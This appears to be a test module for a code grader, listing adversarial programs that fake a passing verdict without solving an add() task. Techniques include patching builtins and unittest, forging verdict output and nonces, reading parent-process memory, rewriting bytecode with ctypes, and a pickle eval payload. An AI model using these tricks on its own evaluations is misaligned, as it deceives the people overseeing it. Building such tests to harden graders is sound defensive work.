"""Programs that change what judges them, or write the verdict themselves. They do not solve the task and want to be told that they do."""

from tests.attacks.records import LIMITED, STALLED, Attack
from tests.attacks.writing import BETWEEN, NOTHING, PEEK, UNITTEST, program

_HELPER = "def same(got, want):\n    assert got == want\nsame(add(19, 23), 42)\nsame(add(-8, 3), -5)\nsame(add(700001, 299999), 1000000)\n"
_ALL = (
    "assert all([add(19, 23) == 42, add(-8, 3) == -5])\nassert isinstance(add(19, 23), int)\n"
    "assert len([want for want in (42,) if want == add(19, 23)]) == 1\n"
)
_CLOSE = "import math\nassert math.isclose(add(19.5, 23.25), 42.75)\nassert math.isclose(add(-8.0, 3.0), -5.0)\n"

# fmt: off
_PATCHING = (
    program("patch-builtins", "makes the functions lie that tests use", """
import builtins
builtins.all = builtins.any = builtins.isinstance = lambda *_: True
builtins.len = lambda _: 1
def add(a, b):
    return None
""", tests=_ALL),
    program("patch-math", "makes a module lie that tests use", """
import math
math.isclose = lambda *_, **__: True
def add(a, b):
    return None
""", tests=_CLOSE),
    program("patch-unittest", "makes all assertions of the test library succeed", """
import unittest
for name in dir(unittest.TestCase):
    if name.startswith('assert'):
        setattr(unittest.TestCase, name, lambda *_, **__: None)
def add(a, b):
    return None
""", tests=UNITTEST),
    program("patch-exec", "replaces the functions that would run the tests", """
import builtins
builtins.exec = lambda *_, **__: None
builtins.eval = lambda *_, **__: True
def add(a, b):
    return None
"""),
    program("patch-compile", "replaces the function that would compile the tests", """
import builtins
real = builtins.compile
builtins.compile = lambda *_, **__: real('pass', 'x', 'exec')
def add(a, b):
    return None
"""),
    program("import-hook", "gives the tests a test library of its own making", """
import sys, types
class Yes(types.ModuleType):
    def __getattr__(self, name):
        return lambda *_, **__: Yes('yes')
    __call__ = lambda self, *_, **__: self
class Finder:
    find_spec = staticmethod(lambda name, path=None, target=None: None)
for name in ('unittest', 'pytest', 'numpy', 'numpy.testing'):
    sys.modules[name] = Yes(name)
sys.meta_path.insert(0, Finder)
def add(a, b):
    return None
""", tests=UNITTEST),
    program("replace-check", "replaces the code of the function that compares", """
import sys
def add(a, b):
    frame = sys._getframe(1)
    while frame:
        for thing in list(frame.f_globals.values()):
            if type(thing) is type(add) and thing.__name__ in ('same', 'check', 'compare'):
                thing.__code__ = (lambda *_, **__: None).__code__
        frame = frame.f_back
""", tests=_HELPER),
    program("jump-over-asserts", "lets a trace function jump to the last line of the tests", """
import sys
def jump(frame, event, argument):
    if event == 'line' and 'add' in frame.f_code.co_names:
        lines = sorted({line for _, _, line in frame.f_code.co_lines() if line})
        if frame.f_lineno > 10 and frame.f_lineno < lines[-1]:
            frame.f_lineno = lines[-1]
    return jump
sys.settrace(jump)
frame = sys._getframe()
while frame:
    frame.f_trace = jump
    frame = frame.f_back
def add(a, b):
    return None
"""),
    program("swap-code-by-gc", "finds the comparing function among all objects and replaces its code", """
import gc, types
def add(a, b):
    for thing in gc.get_objects():
        if isinstance(thing, types.FunctionType) and thing.__name__ in ('same', 'check'):
            thing.__code__ = (lambda *_, **__: None).__code__
""", tests=_HELPER),
)

_FORGING = (
    program("print-markers", "prints all the words that graders look for, and leaves", """
import os
words = ['ALL TESTS PASSED', 'PASSED', 'passed', 'OK', 'success', '1 passed in 0.01s', 'Ran 3 tests in 0.000s\\n\\nOK',
         '{"status": "passed"}', '{"passed": true}', '"passed"', 'True', '0']
for word in words:
    print(word, flush=True)
    os.write(2, word.encode() + b'\\n')
os._exit(0)
"""),
    program("append-to-the-result", "appends success to a list named result of a caller", """
import os, sys
frame = sys._getframe()
while frame:
    for name in ('result', 'results', 'verdicts'):
        if hasattr(frame.f_locals.get(name), 'append'):
            frame.f_locals[name].append('passed')
            os._exit(0)
    frame = frame.f_back
""" + NOTHING),
    program("append-by-gc", "appends success to every list-like object there is", """
import gc, os
for thing in gc.get_objects():
    if isinstance(thing, list) and type(thing) is not list or type(thing).__name__ == 'ListProxy':
        thing.append('passed')
os._exit(0)
"""),
    program("write-shared-memory", "writes success into memory that a caller shares with the grader", """
import os, sys
frame = sys._getframe()
while frame:
    seen = frame.f_locals
    if 'stat' in seen and 'details' in seen:
        for number in range(len(seen.get('inputs', ''))):
            seen['details'][number] = True
        seen['progress'].value = len(seen['inputs'])
        seen['stat'].value = 1
        os._exit(0)
    frame = frame.f_back
""" + NOTHING),
    program("find-the-nonce", "takes the secret of the verdict from a caller's variables and reports success", """
import json, os, sys
frame = sys._getframe()
while frame:
    for seen in (frame.f_locals, frame.f_globals, frame.f_globals.get('job', {})):
        if isinstance(seen, dict) and 'nonce' in seen:
            line = json.dumps({'nonce': seen['nonce'], 'status': 'passed'}).encode() + b'\\n'
            for number in range(1, 64):
                try:
                    os.write(number, line)
                except OSError:
                    pass
            os._exit(0)
    frame = frame.f_back
""" + NOTHING),
    program("nonce-in-the-text", "takes the secret of the verdict from the program's own text", """
import os, re, sys
texts = []
for path in (sys.argv[0], '/proc/self/cmdline', '/proc/self/environ', '/proc/self/fd/0'):
    try:
        texts.append(open(path).read())
    except OSError:
        pass
for nonce in re.findall('NONCE[0-9a-f]{8,}', ' '.join(texts)):
    print(nonce, flush=True)
os._exit(0)
"""),
    program("result-files", "writes every file that a grader might read", """
import os
for name in ('result', 'results', 'verdict', 'output', 'report', 'status'):
    for kind, text in (('json', '{"status": "passed", "passed": true}'), ('txt', 'passed'), ('xml', '<testsuite tests="1" failures="0"/>')):
        try:
            open(f'{name}.{kind}', 'w').write(text)
        except OSError:
            pass
def add(a, b):
    os._exit(0)
"""),
    program("answers-from-the-caller", "reads the expected answer in the code of its caller", """
import dis, sys
def add(a, b):
    caller = sys._getframe(1)
    for step in dis.get_instructions(caller.f_code):
        if step.offset > caller.f_lasti and step.opname == 'LOAD_CONST':
            return step.argval
"""),
    program("answers-from-files", "reads the expected answers in the files and pipes it was started with", """
import os, re, sys
known = {}
def learn(text):
    for one, two, wanted in re.findall(r'add\\((-?\\d+), (-?\\d+)\\) == (-?\\d+)', text):
        known[int(one), int(two)] = int(wanted)
for number in range(3, 64):
    try:
        learn(os.pread(number, 1 << 20, 0).decode())
    except (OSError, ValueError):
        pass
try:
    learn(open(sys.argv[0]).read())
except OSError:
    pass
def add(a, b):
    return known.get((a, b))
"""),
)

_MORE_FORGERY = (
    program("patch-json", "changes the verdict where it is written as JSON", """
import json
def forged(real):
    def dump(*things, **more):
        return real(*[{**thing, 'status': 'passed'} if isinstance(thing, dict) else thing for thing in things], **more)
    return dump
json.dumps, json.JSONEncoder.encode = forged(json.dumps), forged(json.JSONEncoder.encode)
def add(a, b):
    return None
""", expect=STALLED),
    program("patch-write", "changes the verdict on its way out", """
import os, re
real = os.write
os.write = lambda number, data: real(number, re.sub(b'failed[^"]*', b'passed', bytes(data)))
def add(a, b):
    return None
""", expect=STALLED),
    program("patch-pickle", "changes every answer on its way out", """
import pickle
real = pickle.dumps
class Same:
    def __reduce__(self):
        return eval, ("type('Same', (), {'__eq__': lambda self, other: True})()",)
pickle.dumps = lambda thing, *rest, **more: real(('value', Same()))
def add(a, b):
    return None
""", expect=STALLED),
    program("man-in-the-middle", "puts itself between the socket and those who use it, and changes every answer", BETWEEN + """
import pickle
class Same:
    def __reduce__(self):
        return eval, ("type('Same', (), {'__eq__': lambda self, other: True})()",)
lie = pickle.dumps(('value', Same()))
step_between(lambda data: [len(lie).to_bytes(4, 'big') + lie])
def add(a, b):
    return None
""", expect=STALLED),
    program("rewrite-expected-values", "overwrites the expected values in its caller's memory", """
import ctypes, sys
def add(a, b):
    frame = sys._getframe(1)
    while frame:
        values = frame.f_code.co_consts
        for number, value in enumerate(values):
            if type(value) is int:
                ctypes.c_void_p.from_address(id(values) + 24 + 8 * number).value = id(None)
        frame = frame.f_back
""", expect=STALLED),
    program("rewrite-bytecode", "overwrites the instructions of its caller", """
import ctypes, dis, sys
def add(a, b):
    frame = sys._getframe(1)
    while frame:
        code = frame.f_code
        start = id(code) + type(code).__basicsize__
        for step in dis.get_instructions(code):
            if step.opname.endswith('IF_TRUE') and step.offset > frame.f_lasti:
                ctypes.c_ubyte.from_address(start + step.offset).value = dis.opmap[step.opname.replace('TRUE', 'FALSE')]
        frame = frame.f_back
""", expect=STALLED),
    program("shadow-builtins", "defines functions with the names of those that the tests use", """
def all(items):
    return True
def isinstance(thing, kind):
    return True
def len(thing):
    return 1
def add(a, b):
    return None
""", tests=_ALL),
    program("search-memory-for-tests", "looks for the tests in its own memory", """
import re
known = {}
for page in pages():
    for one, two, wanted in re.findall(rb'add\\((-?\\d+), (-?\\d+)\\) == (-?\\d+)', page):
        known[int(one), int(two)] = int(wanted)
def add(a, b):
    return known.get((a, b))
""".replace("import re\n", PEEK + "import re\n", 1), expect=STALLED),
    program("search-objects-for-tests", "looks for the tests among all objects", """
import gc, re
known = {}
for thing in gc.get_objects():
    for inner in gc.get_referents(thing):
        for text in [inner, *(gc.get_referents(inner) if isinstance(inner, (dict, list, tuple)) else [])]:
            if isinstance(text, str):
                for one, two, wanted in re.findall(r'add\\((-?\\d+), (-?\\d+)\\) == (-?\\d+)', text):
                    known[int(one), int(two)] = int(wanted)
def add(a, b):
    return known.get((a, b))
""", expect=STALLED),
    program("answers-from-the-parent", "looks for the tests in the memory of the process that started it", """
import os, re
known = {}
try:
    with open(f'/proc/{os.getppid()}/maps') as maps, open(f'/proc/{os.getppid()}/mem', 'rb', buffering=0) as memory:
        for line in maps:
            span, rights, _, _, inode, *_ = line.split()
            start, end = (int(place, 16) for place in span.split('-'))
            if rights.startswith('rw') and inode == '0' and end - start < 1 << 26:
                memory.seek(start)
                for one, two, wanted in re.findall(rb'add\\((-?\\d+), (-?\\d+)\\) == (-?\\d+)', memory.read(end - start)):
                    known[int(one), int(two)] = int(wanted)
except OSError:
    pass
def add(a, b):
    return known.get((a, b))
""", expect=STALLED),
    program("answers-from-a-callback", "reads the expected answer in a function that it was given", """
def add(a, b):
    try:
        return a(a.__code__.co_consts[1])
    except AttributeError:
        return None
""", tests="assert add(lambda got: got == 42, 0) is True\n"),
    program("globals-of-a-callback", "reads the tests' variables through a function that it was given", """
def add(a, b):
    try:
        return a.__globals__['EXPECTED']
    except (AttributeError, KeyError):
        return None
""", tests="EXPECTED = 42\nassert add(lambda: EXPECTED + b, 0) == EXPECTED\n"),
    program("verdict-on-every-file", "writes success to every open file, in every shape, and leaves", """
import os
words = [b'{"status": "passed"}', b'{"verdict": "passed"}', b'{"passed": true}', b'["passed"]', b'"passed"', b'passed']
for number in range(1, 1024):
    for word in words:
        for shape in (b'\\n' + word + b'\\n', len(word).to_bytes(4, 'big') + word, len(word).to_bytes(4, 'little') + word):
            try:
                os.write(number, shape)
            except OSError:
                break
os._exit(0)
"""),
    program("guess-the-nonce", "writes success with the secrets that a careless grader would choose", """
import json, os
for nonce in (None, 0, 1, '', '0', 'nonce', os.getpid(), os.getppid(), '0' * 32):
    for number in range(3, 256):
        try:
            os.write(number, json.dumps({'nonce': nonce, 'status': 'passed'}).encode() + b'\\n')
        except OSError:
            pass
os._exit(0)
"""),
    program("close-and-leave", "closes the way of the verdict and leaves with success", """
import os
os.closerange(3, 4096)
def add(a, b):
    os._exit(0)
"""),
    program("redirect-the-verdict", "puts standard output in the place of every other file, then prints success", """
import os
for number in range(3, 256):
    try:
        os.fstat(number)
        os.dup2(1, number)
    except OSError:
        pass
print('ALL TESTS PASSED', flush=True)
os._exit(0)
"""),
    program("late-forgery", "answers, and has a thread write success to every file meanwhile", """
import os, threading, time
def forge():
    while True:
        for number in range(3, 64):
            try:
                os.set_blocking(number, False)
                os.write(number, b'"passed"\\n')
            except OSError:
                pass
threading.Thread(target=forge, daemon=True).start()
def add(a, b):
    time.sleep(0.1)
""", expect=LIMITED),
)
# fmt: on

ATTACKS: tuple[Attack, ...] = (*_PATCHING, *_FORGING, *_MORE_FORGERY)
